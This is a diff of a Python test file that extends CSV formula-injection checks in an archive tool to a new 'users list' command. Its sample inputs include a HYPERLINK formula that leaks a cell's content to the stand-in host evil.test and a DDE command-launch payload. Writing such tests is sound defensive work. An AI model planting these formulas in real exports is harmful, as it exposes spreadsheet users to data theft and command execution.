@@ -13,10 +13,12 @@ from click.testing import CliRunner, Result
 from hypothesis import given
 from hypothesis import strategies as st
 
+from archive import users
 from archive.catalog.authority import read_csv
 from archive.cli import main
 from archive.cli.reference import contexts
 from archive.printable import guarded, unguarded
+from archive.users import Role
 
 FORMULAS = (
     '=HYPERLINK("http://evil.test?"&A1,"Lire la suite")', "=cmd|' /C calc'!A1", "+33 1 02 03 04 05", "-2+3",
@@ -57,6 +59,7 @@ def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
     for command in (["ingest", str(where / "in")], ["authority", "import", str(taught)], decided):
         done = CliRunner().invoke(main, ["--archive", str(where / "archive"), *command])
         assert done.exit_code == 0, done.output
+    users.add(where / "archive", "=1+1", Role.READER, "une phrase assez longue")
     return where / "archive"
 
 
@@ -69,7 +72,7 @@ def run(folder: Path, *args: str) -> Result:
 TABLES = (
     ["export", "documents"], ["export", "mentions"], ["export", "timelines"], ["search", "Lille OR Calais"],
     ["entities"], ["pairs"], ["authority", "list"], ["check"], ["formats"], ["decisions"],
-    ["timeline", "Calais"],
+    ["timeline", "Calais"], ["users", "list"],
 )  # fmt: skip
 
 
@@ -81,7 +84,7 @@ def test_every_command_that_prints_tables_is_looked_at() -> None:
         if "csv" in getattr(getattr(named.get("form"), "type", None), "choices", ()):
             with_csv.add(context.command_path.removeprefix("archive "))
             assert {"raw", "bom"} <= set(named)
-    assert with_csv == {t[0] if t[0] != "authority" else "authority list" for t in TABLES}
+    assert with_csv == {" ".join(t[:2]) if t[0] in ("authority", "users") else t[0] for t in TABLES}
 
 
 @pytest.mark.parametrize("table", TABLES, ids=" ".join)
